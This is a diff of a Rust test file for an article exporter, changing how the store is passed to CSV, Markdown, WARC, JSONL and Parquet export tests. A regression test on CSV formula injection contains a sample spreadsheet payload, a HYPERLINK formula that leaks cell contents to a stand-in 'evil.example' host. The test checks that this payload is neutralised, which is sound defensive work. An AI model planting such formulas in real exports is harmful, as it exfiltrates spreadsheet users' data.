@@ -4,7 +4,7 @@
 use super::*;
 use crate::boilerplate::LineSettings;
 use crate::extract::Article;
-use crate::store::{KeptHeaders, KeptHtml, NewArticle, WriteOp};
+use crate::store::{KeptHeaders, KeptHtml, NewArticle, Store, WriteOp};
 
 fn article_with_html(
     url: &str,
@@ -38,7 +38,7 @@ fn store_with(articles: Vec<NewArticle>) -> Store {
     store
 }
 
-fn export(store: &Store, format: Format) -> (String, ExportSummary) {
+fn export(store: &mut Store, format: Format) -> (String, ExportSummary) {
     let mut out = Vec::new();
     let summary = write(store, &Selection::default(), format, &mut out).unwrap();
     (String::from_utf8_lossy(&out).into_owned(), summary)
@@ -54,8 +54,8 @@ fn regression_csv_formula_cells_were_written_unchanged() {
     );
     a.article.site_name = Some("@evil".into());
     let b = article_with_html("http://a.test/2", "+1 for this", "\tTabbed.", None);
-    let store = store_with(vec![a, b]);
-    let (csv, _) = export(&store, Format::Csv);
+    let mut store = store_with(vec![a, b]);
+    let (csv, _) = export(&mut store, Format::Csv);
     let rows: Vec<&str> = csv.split("\r\n").collect();
     assert!(
         rows[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"),
@@ -68,7 +68,7 @@ fn regression_csv_formula_cells_were_written_unchanged() {
     );
     assert!(rows[1].starts_with("1,http://a.test/1,a,"), "{csv}");
     // Asked for, the cells are written as stored.
-    let (raw, _) = export(&store, Format::CsvRaw);
+    let (raw, _) = export(&mut store, Format::CsvRaw);
     assert!(
         raw.contains(",\"=HYPERLINK(") && raw.contains(",@evil,\"-2+3"),
         "{raw}"
@@ -78,13 +78,13 @@ fn regression_csv_formula_cells_were_written_unchanged() {
 
 #[test]
 fn csv_quotes_commas_quotes_and_line_breaks_per_rfc_4180() {
-    let store = store_with(vec![article_with_html(
+    let mut store = store_with(vec![article_with_html(
         "http://a.test/1",
         "Say \"hi\", world",
         "First line.\nSecond, with comma.",
         None,
     )]);
-    let (csv, summary) = export(&store, Format::Csv);
+    let (csv, summary) = export(&mut store, Format::Csv);
     assert_eq!(summary.written, 1);
     let mut lines = csv.split("\r\n");
     assert_eq!(lines.next().unwrap(), FIELDS.join(","));
@@ -101,11 +101,11 @@ fn csv_quotes_commas_quotes_and_line_breaks_per_rfc_4180() {
 
 #[test]
 fn markdown_opens_each_article_with_title_heading_and_url() {
-    let store = store_with(vec![
+    let mut store = store_with(vec![
         article_with_html("http://a.test/1", "One", "# Not a heading\nPlain.", None),
         article_with_html("http://a.test/2", "Two", "Text two.", None),
     ]);
-    let (md, summary) = export(&store, Format::Markdown);
+    let (md, summary) = export(&mut store, Format::Markdown);
     assert_eq!((summary.written, summary.from_stored_text), (2, 2));
     assert_eq!(
         md,
@@ -122,7 +122,7 @@ fn warc_writes_kept_pages_and_counts_articles_without_one() {
         etag: Some("\"abc\"".into()),
         date: Some("Thu, 26 Nov 2026 09:00:00 GMT".into()),
     };
-    let store = store_with(vec![
+    let mut store = store_with(vec![
         article_with_html(
             "http://a.test/1",
             "One",
@@ -132,7 +132,7 @@ fn warc_writes_kept_pages_and_counts_articles_without_one() {
         article_with_html("http://a.test/2", "Two", "Body two.", None),
     ]);
     let mut out = Vec::new();
-    let summary = write(&store, &Selection::default(), Format::Warc, &mut out).unwrap();
+    let summary = write(&mut store, &Selection::default(), Format::Warc, &mut out).unwrap();
     assert_eq!((summary.written, summary.skipped), (1, 1));
     // Two gzip members: warcinfo and the one response.
     let mut text = Vec::new();
@@ -181,8 +181,8 @@ fn regression_export_printed_density_for_every_article_whatever_the_method() {
             [],
         )
         .unwrap();
-    let store = Store::open(&path).unwrap();
-    let (jsonl, _) = export(&store, Format::Jsonl);
+    let mut store = Store::open(&path).unwrap();
+    let (jsonl, _) = export(&mut store, Format::Jsonl);
     let methods: Vec<serde_json::Value> = jsonl
         .lines()
         .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["method"].clone())
@@ -195,7 +195,7 @@ fn regression_export_printed_density_for_every_article_whatever_the_method() {
             serde_json::Value::Null
         ]
     );
-    let (csv, _) = export(&store, Format::Csv);
+    let (csv, _) = export(&mut store, Format::Csv);
     let ends: Vec<&str> = csv
         .split("\r\n")
         .skip(1)
@@ -251,12 +251,18 @@ fn parquet_round_trip_holds_the_jsonl_fields_as_typed_columns() {
     full.article.site_name = Some("A".into());
     let mut bare = article_with_html("http://a.test/2", "", "Only text.", None);
     bare.article.title = None;
-    let store = store_with(vec![full, bare]);
+    let mut store = store_with(vec![full, bare]);
 
     let mut bytes = Vec::new();
-    let summary = write(&store, &Selection::default(), Format::Parquet, &mut bytes).unwrap();
+    let summary = write(
+        &mut store,
+        &Selection::default(),
+        Format::Parquet,
+        &mut bytes,
+    )
+    .unwrap();
     assert_eq!(summary.written, 2);
-    let (jsonl, _) = export(&store, Format::Jsonl);
+    let (jsonl, _) = export(&mut store, Format::Jsonl);
     let records: Vec<serde_json::Value> = jsonl
         .lines()
         .map(|l| serde_json::from_str(l).unwrap())
